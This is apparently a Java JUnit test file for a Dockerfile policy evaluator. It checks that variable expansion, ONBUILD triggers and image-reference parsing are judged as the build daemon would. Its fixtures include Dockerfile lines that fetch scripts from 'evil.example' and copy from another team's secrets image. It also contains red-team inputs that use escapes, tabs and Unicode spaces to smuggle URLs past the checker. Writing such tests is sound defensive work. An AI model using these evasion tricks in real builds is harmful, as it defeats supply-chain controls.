package io.buildgateway.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.buildgateway.shared.RegistryUnavailable;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/**
 * Issue #11: the rules judge what the daemon builds — variables substituted as the builder does, ONBUILD triggers of
 * earlier stages and of base images judged as the instructions they become, prefixes on path boundaries, references
 * that do not parse refused.
 */
class ExpansionTest {

    private static final String DIGEST = "@sha256:" + "a".repeat(64);
    private static final String BASE = "FROM reg.local/base/debian:12" + DIGEST + " AS base\n";
    private static final PolicyEvaluator POLICY = Policies.evaluator("approvedImages: [reg.local/base/]\n");

    private static Evaluation eval(String dockerfile, Map<String, String> args) {
        return POLICY.evaluate(new PolicyEvaluator.Request(dockerfile, args, null, "payments", "payments/app", null));
    }

    private static Evaluation eval(String dockerfile, Function<String, List<String>> triggers) {
        return POLICY.evaluate(new PolicyEvaluator.Request(dockerfile, Map.of(), null, "payments", "payments/app",
                null, triggers));
    }

    /**
     * The errors but {@code add-url-outside-egress}, which fires on every URL these cases make (team payments has no
     * egress allowlist here); that it sees the same expanded sources is {@link #theEgressRuleJudgesTheExpandedSource}.
     */
    private static List<Finding> errors(Evaluation e) {
        return e.findings().stream().filter(f -> f.severity() == Finding.Severity.error)
                .filter(f -> !f.rule().equals("add-url-outside-egress")).toList();
    }

    @Test
    void theEgressRuleJudgesTheExpandedSource() {
        Evaluation e = eval(BASE + "ARG U=https://evil.example/a.tgz\nADD --checksum=sha256:" + "a".repeat(64)
                + " $U /x\nUSER 1\n", Map.of());
        assertThat(e.findings()).filteredOn(f -> f.severity() == Finding.Severity.error)
                .extracting(Finding::rule, Finding::line)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("add-url-outside-egress", 3));
    }

    private static List<String> errorRules(Evaluation e) {
        return errors(e).stream().map(Finding::rule).toList();
    }

    // ---- 3. unexpanded sources ------------------------------------------------------------------------------------

    @Test
    void addOfAVariableHoldingAUrlIsAUrl() {
        for (String source : List.of("$U", "${U}", "\"${U}\"", "${U:-x}")) {
            Evaluation e = eval(BASE + "ARG U=https://evil.example/x.sh\nADD " + source + " /x\nUSER 1\n", Map.of());
            assertThat(errorRules(e)).as(source).containsExactly("add-url-without-checksum");
            assertThat(errors(e).get(0).line()).isEqualTo(3);
        }
    }

    @Test
    void aSchemeBuiltFromAVariableIsAUrl() {
        Evaluation e = eval(BASE + "ARG SCHEME=http\nADD ${SCHEME}://host/x /x\nUSER 1\n", Map.of());
        assertThat(errorRules(e)).containsExactly("add-url-without-checksum");
    }

    @Test
    void envDefinedSourceIsExpanded() {
        Evaluation e = eval(BASE + "ENV U=https://evil.example/a.tgz\nADD $U /x\nUSER 1\n", Map.of());
        assertThat(errorRules(e)).containsExactly("add-url-without-checksum");
        // ENV in a parent stage is in scope in the child
        e = eval(BASE + "ENV U=https://evil.example/a.tgz\nFROM base AS b\nFROM reg.local/base/x:1" + DIGEST
                + " AS c\nUSER 1\n", Map.of());
        assertThat(errorRules(e)).isEmpty();
    }

    @Test
    void buildArgSourceIsExpandedAndAnUndeclaredOneIsNot() {
        String dockerfile = BASE + "ARG U=local.tgz\nADD $U /x\nUSER 1\n";
        assertThat(errorRules(eval(dockerfile, Map.of()))).isEmpty();
        assertThat(errorRules(eval(dockerfile, Map.of("U", "https://evil.example/a.tgz"))))
                .containsExactly("add-url-without-checksum");
        // A build arg whose ARG is declared without a default
        assertThat(errorRules(eval(BASE + "ARG U\nADD $U /x\nUSER 1\n", Map.of("U", "ftp://e/x.tgz"))))
                .containsExactly("add-url-without-checksum");
        // Single quotes keep it literal, as the builder does: not the URL, but a word with '$' is judged as unknown
        assertThat(errors(eval(BASE + "ARG U=https://e/x\nADD '$U.tgz' /x\nUSER 1\n", Map.of())))
                .extracting(Finding::message).singleElement().asString().contains("'$U.tgz'");
    }

    @Test
    void aSourceWhoseValueIsNotKnownIsJudgedAsAPossibleUrl() {
        // U is declared nowhere: the base image's ENV may set it.
        Evaluation e = eval(BASE + "ADD $U /x\nUSER 1\n", Map.of("U", "ignored.tgz"));
        assertThat(errorRules(e)).containsExactly("add-url-without-checksum");
        assertThat(errors(e).get(0).message()).contains("'$U'").contains("not known");
        // From scratch nothing is inherited: an undeclared variable is empty
        assertThat(errorRules(eval("FROM scratch\nADD a.tgz$U /x\nUSER 1\n", Map.of()))).isEmpty();
        // A checksum pins whatever URL it becomes (the classic builder does not know --checksum: only the canonical
        // form refuses it until the hosts run BuildKit)
        assertThat(errorRules(eval(BASE + "ADD --checksum=sha256:" + "b".repeat(64) + " $U /x\nUSER 1\n",
                Map.of()))).containsExactly("dockerfile-canonical");
    }

    @Test
    void flagsAreExpandedForCopyFromAndRunMount() {
        Evaluation e = eval("ARG IMG=ghcr.io/evil/tools:1\n" + BASE + "ARG IMG\nCOPY --from=$IMG /a /a\n"
                + "RUN --mount=type=bind,from=${IMG},target=/t true\nUSER 1\n", Map.of());
        assertThat(errors(e)).extracting(Finding::rule, Finding::line)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("unapproved-image", 4),
                        org.assertj.core.groups.Tuple.tuple("unapproved-image", 5));
        assertThat(e.pulls()).containsExactly("reg.local/base/debian:12" + DIGEST, "ghcr.io/evil/tools:1");
        // Unknown: worst case
        assertThat(errorRules(eval(BASE + "COPY --from=$X /a /a\nUSER 1\n", Map.of())))
                .containsExactly("unapproved-image");
    }

    @Test
    void workdirAndExposeAreJudgedAfterSubstitution() {
        Evaluation e = eval(BASE + "ARG P=22\nEXPOSE $P\nARG D=rel\nWORKDIR $D\nUSER 1\n", Map.of());
        assertThat(e.findings()).extracting(Finding::rule).contains("expose-ssh", "relative-workdir");
    }

    // ---- 4. ONBUILD ------------------------------------------------------------------------------------------------

    @Test
    void triggersOfAnEarlierStageAreJudgedInTheStageThatUsesIt() {
        String dockerfile = BASE + "ONBUILD COPY --from=reg.local/other-team/secrets:1" + DIGEST + " /k /k\n"
                + "ONBUILD ADD https://evil.example/x.sh /x\n"
                + "USER 1\nFROM base\nUSER 1\n";
        Evaluation e = eval(dockerfile, Map.of());
        assertThat(errors(e)).extracting(Finding::rule, Finding::line).containsExactlyInAnyOrder(
                org.assertj.core.groups.Tuple.tuple("unapproved-image", 2),
                org.assertj.core.groups.Tuple.tuple("add-url-without-checksum", 3));
        assertThat(e.pulls()).contains("reg.local/other-team/secrets:1" + DIGEST);
        // Unused triggers run in someone else's build, which is judged there
        assertThat(errorRules(eval(BASE + "ONBUILD ADD https://evil.example/x.sh /x\nUSER 1\n", Map.of())))
                .isEmpty();
    }

    @Test
    void triggersAreExpandedInTheScopeOfTheStageThatRunsThem() {
        // The trigger's $U is the later stage's ENV from its parent, not the ARG of the declaring stage.
        String dockerfile = BASE + "ENV U=https://evil.example/a.tgz\nONBUILD ADD $U /x\nUSER 1\nFROM base\nUSER 1\n";
        assertThat(errorRules(eval(dockerfile, Map.of()))).containsExactly("add-url-without-checksum");
    }

    @Test
    void aUserTriggerCountsForTheFinalUser() {
        Evaluation e = eval(BASE + "USER 1000\nONBUILD USER root\nFROM base\nRUN true\n", Map.of());
        assertThat(errors(e)).extracting(Finding::rule, Finding::line)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("final-user-root", 3));
        // The later stage's own USER comes after the trigger and wins
        assertThat(errorRules(eval(BASE + "USER 1000\nONBUILD USER root\nFROM base\nUSER 1\n", Map.of())))
                .isEmpty();
    }

    @Test
    void triggersInTheBaseImageConfigAreJudgedAtTheFromLine() {
        List<String> asked = new ArrayList<>();
        Function<String, List<String>> registry = ref -> {
            asked.add(ref);
            return List.of("ADD https://evil.example/x.sh /x",
                    "COPY --from=reg.local/other-team/secrets:1" + DIGEST + " /k /k", "RUN sudo true");
        };
        Evaluation e = eval("ARG UNUSED=1\n" + BASE + "USER 1\n", registry);
        assertThat(errors(e)).extracting(Finding::rule, Finding::line).containsExactlyInAnyOrder(
                org.assertj.core.groups.Tuple.tuple("add-url-without-checksum", 2),
                // a base's trigger that ADDs a URL cannot be rewritten into a COPY of the fetched file
                org.assertj.core.groups.Tuple.tuple("base-image-triggers", 2),
                org.assertj.core.groups.Tuple.tuple("unapproved-image", 2),
                org.assertj.core.groups.Tuple.tuple("sudo", 2));
        assertThat(asked).containsExactly("reg.local/base/debian:12" + DIGEST);
        assertThat(e.pulls()).contains("reg.local/other-team/secrets:1" + DIGEST);
    }

    @Test
    void onlyApprovedBasesAreAskedForAndAnUnreadableOneFailsClosed() {
        List<String> asked = new ArrayList<>();
        Evaluation e = eval("FROM evil.example/x:1\nUSER 1\n", ref -> {
            asked.add(ref);
            return List.of();
        });
        assertThat(asked).isEmpty();
        assertThat(errorRules(e)).containsExactly("unapproved-image");

        e = eval(BASE + "USER 1\n", ref -> {
            throw new IllegalStateException("registry 127.0.0.1:5000 refused the connection");
        });
        assertThat(e.passed()).isFalse();
        assertThat(errors(e)).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo("base-image-triggers");
            assertThat(f.line()).isEqualTo(1);
            assertThat(f.message()).contains("could not be read").contains("refused the connection");
        });

        assertThat(errorRules(eval(BASE + "USER 1\n", ref -> List.of("NOTAKEYWORD x"))))
                .containsExactly("base-image-triggers");
        assertThat(eval(BASE + "USER 1\n", ref -> null).passed()).isTrue();

        // A wrapper without a message of its own around one with a message: the message, not "no reason given".
        e = eval(BASE + "USER 1\n", ref -> {
            throw new java.io.UncheckedIOException(new java.io.IOException("the registry at 127.0.0.1:5000 cannot"
                    + " be reached (ConnectException)", new java.net.ConnectException()));
        });
        assertThat(errors(e)).singleElement().satisfies(f -> assertThat(f.message())
                .contains("(the registry at 127.0.0.1:5000 cannot be reached (ConnectException))")
                .doesNotContain("no reason given"));
    }

    /**
     * A registry that cannot be reached now is no finding: the file cannot be judged now, so the evaluation fails
     * whole with the 503 the submission answers, and nothing is recorded (issue #17; the caller translates its
     * registry's outage into {@link RegistryUnavailable}).
     */
    @Test
    void aRegistryThatCannotBeReachedNowRefusesTheEvaluationInsteadOfAFinding() {
        assertThatThrownBy(() -> eval(BASE + "USER 1\n", ref -> {
            throw new RegistryUnavailable("the ONBUILD triggers of base image '" + ref + "'");
        })).isInstanceOf(RegistryUnavailable.class).satisfies(t -> {
            RegistryUnavailable outage = (RegistryUnavailable) t;
            assertThat(outage.status()).isEqualTo(503);
            assertThat(outage.typeName()).isEqualTo("registry-unavailable");
            assertThat(outage.properties()).containsEntry("retryAfterSeconds", RegistryUnavailable.RETRY_AFTER_SECONDS);
            assertThat(outage.detail()).contains("base image 'reg.local/base/").contains("no build was recorded");
        });
    }

    // ---- smaller --------------------------------------------------------------------------------------------------

    @Test
    void prefixesMatchOnPathBoundariesOnly() {
        PolicyEvaluator exact = Policies.evaluator("approvedImages: [reg.local/base/busybox, reg.local/base/]\n");
        PolicyEvaluator noSlash = Policies.evaluator("approvedImages: [reg.local/base/busybox]\n");
        assertThat(noSlash.evaluate("FROM reg.local/base/busybox-evil:1\nUSER 1\n", Map.of(), null).findings())
                .extracting(Finding::rule).contains("unapproved-image");
        assertThat(noSlash.evaluate("FROM reg.local/base/busybox:1\nUSER 1\n", Map.of(), null).findings())
                .extracting(Finding::rule).doesNotContain("unapproved-image");
        assertThat(noSlash.evaluate("FROM reg.local/base/busybox/sub:1\nUSER 1\n", Map.of(), null).findings())
                .extracting(Finding::rule).doesNotContain("unapproved-image");
        assertThat(exact.evaluate("FROM reg.local/basement/x:1\nUSER 1\n", Map.of(), null).findings())
                .extracting(Finding::rule).contains("unapproved-image");
        assertThat(noSlash.isApprovedImage("reg.local/base/busybox-evil")).isFalse();
        // An explicit trailing * is the author asking for any continuation
        PolicyEvaluator star = Policies.evaluator("approvedImages: ['reg.local/base/busy*']\n");
        assertThat(star.evaluate("FROM reg.local/base/busybox:1\nUSER 1\n", Map.of(), null).findings())
                .extracting(Finding::rule).doesNotContain("unapproved-image");
    }

    @Test
    void aNewlineInABuildArgMakesTheReferenceUnparseable() {
        String dockerfile = "ARG B=reg.local/base/debian:12\nFROM $B\nUSER 1\n";
        Evaluation e = eval(dockerfile, Map.of("B", "reg.local/base/debian:12\nevil"));
        assertThat(errors(e)).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo("unapproved-image");
            assertThat(f.line()).isEqualTo(2);
            assertThat(f.instruction()).isEqualTo("FROM");
            assertThat(f.message()).contains("not a valid image reference").contains("\\n").doesNotContain("\n");
        });
    }

    @Test
    void unparseableReferencesAreDenied() {
        for (String ref : List.of("reg.local/base/debian:12 x", "reg.local/base/De:1", "reg.local/base/x:\u0001",
                "reg.local/base//x", "reg.local/base/x:1@sha256:zz", "reg.local/base/x\t")) {
            Evaluation e = eval("ARG B\nFROM $B\nUSER 1\n", Map.of("B", ref));
            assertThat(errors(e)).as(ref).extracting(Finding::message)
                    .anySatisfy(m -> assertThat(m).contains("not a valid image reference"));
        }
        assertThat(errors(eval("ARG B\nFROM $B\nUSER 1\n", Map.of("B", "")))).extracting(Finding::message)
                .anySatisfy(m -> assertThat(m).contains("is empty"));
        assertThat(BuiltinRules.Ref.valid("127.0.0.1:5000/base/busybox:1.36" + DIGEST)).isTrue();
        assertThat(BuiltinRules.Ref.valid("Reg.Local:5000/base/busybox")).isTrue();
        assertThat(BuiltinRules.Ref.valid("busybox")).isTrue();
    }

    @Test
    void pullsListEveryImageOnce() {
        Evaluation e = eval("# syntax=reg.local/base/dockerfile:1" + DIGEST + "\n" + BASE + "USER 1\nFROM base\n"
                + "COPY --from=reg.local/base/debian:12" + DIGEST + " /a /a\nUSER 1\n", Map.of());
        assertThat(e.pulls()).containsExactly("reg.local/base/dockerfile:1" + DIGEST,
                "reg.local/base/debian:12" + DIGEST);
    }
    // Red-team cases B1..B4: the daemon's argument splitting, not a shell's.

    @Test
    void addWordsAreSplitAtWhitespaceBeforeEscapesAreRead() {
        // B1: the daemon splits ADD's arguments at whitespace first: `a\`, the URL, `/x`
        for (String dockerfile : List.of("FROM scratch\nADD a\\ http://127.0.0.1:8099/esc /x\nUSER 1\n",
                "FROM scratch\nADD \"a http://127.0.0.1:8099/esc\" /x\nUSER 1\n",
                BASE + "ONBUILD ADD a\\ http://127.0.0.1:8099/esc /x\nFROM base\nUSER 1\n")) {
            assertThat(errorRules(eval(dockerfile, Map.of()))).as(dockerfile).contains("add-url-without-checksum");
        }
    }

    @Test
    void legacyEnvSplitsNameAndValueAtATab() {
        // B2
        for (String sep : List.of("\t", "\u000B", "\f", " \t ")) {
            Evaluation e = eval("FROM scratch\nENV U" + sep + "http://127.0.0.1:8099/tab\nADD $U /x\nUSER 1\n",
                    Map.of());
            // (a vertical tab or form feed also makes the canonical form refuse the file)
            assertThat(errorRules(e)).as("%x", (int) sep.charAt(0)).contains("add-url-without-checksum");
        }
    }

    @Test
    void envArgAndLabelWordsAreSplitAtGoSpaces() {
        // B4: NBSP and NEL are spaces to Go's unicode.IsSpace
        for (String sp : List.of("\u00A0", "\u0085", "\u2003", "\u3000")) {
            for (String kw : List.of("ENV", "ARG")) {
                Evaluation e = eval("FROM scratch\n" + kw + " A=x" + sp + "U=http://127.0.0.1:8099/nbsp\nADD $U /x\n"
                        + "USER 1\n", Map.of());
                assertThat(errorRules(e)).as(kw + " %x", (int) sp.charAt(0)).contains("add-url-without-checksum");
            }
        }
        // Quotes still group: one pair, whose value has a space in it
        assertThat(errorRules(eval("FROM scratch\nENV A=\"x U=http://e/y\"\nADD $U /x\nUSER 1\n", Map.of())))
                .isEmpty();
    }

    @Test
    void aJsonArrayFollowedByTextIsASyntaxError() {
        // B3: the daemon reads the exec form and ignores the rest
        for (String ins : List.of("ADD [\"http://127.0.0.1:8099/json\",\"/x\"]\"z\"", "RUN [\"true\"] x",
                "CMD [\"a\"]]", "ONBUILD ADD [\"http://e/x\",\"/x\"]z")) {
            Evaluation e = eval("FROM scratch\n" + ins + "\nUSER 1\n", Map.of());
            assertThat(errorRules(e)).as(ins).contains("dockerfile-syntax");
        }
        // trailing whitespace only: the exec form
        assertThat(errorRules(eval("FROM scratch\nADD [\"http://e/x\",\"/x\"] \t\u00A0\nUSER 1\n", Map.of())))
                .containsExactly("add-url-without-checksum");
    }
    @Test
    void aTriggerIsSplitWithTheDefaultEscape() {
        // The daemon parses a stored ONBUILD trigger anew with '\\' as the escape: a backtick does not group there.
        for (String kw : List.of("ENV", "ARG")) {
            Evaluation e = eval("# escape=`\nFROM scratch AS p\nONBUILD " + kw + " A=x` U=http://127.0.0.1:8099/tick\n"
                    + "FROM p\nADD $U /x\nUSER 1\n", Map.of());
            assertThat(errorRules(e)).as(kw).contains("add-url-without-checksum");
        }
    }
}
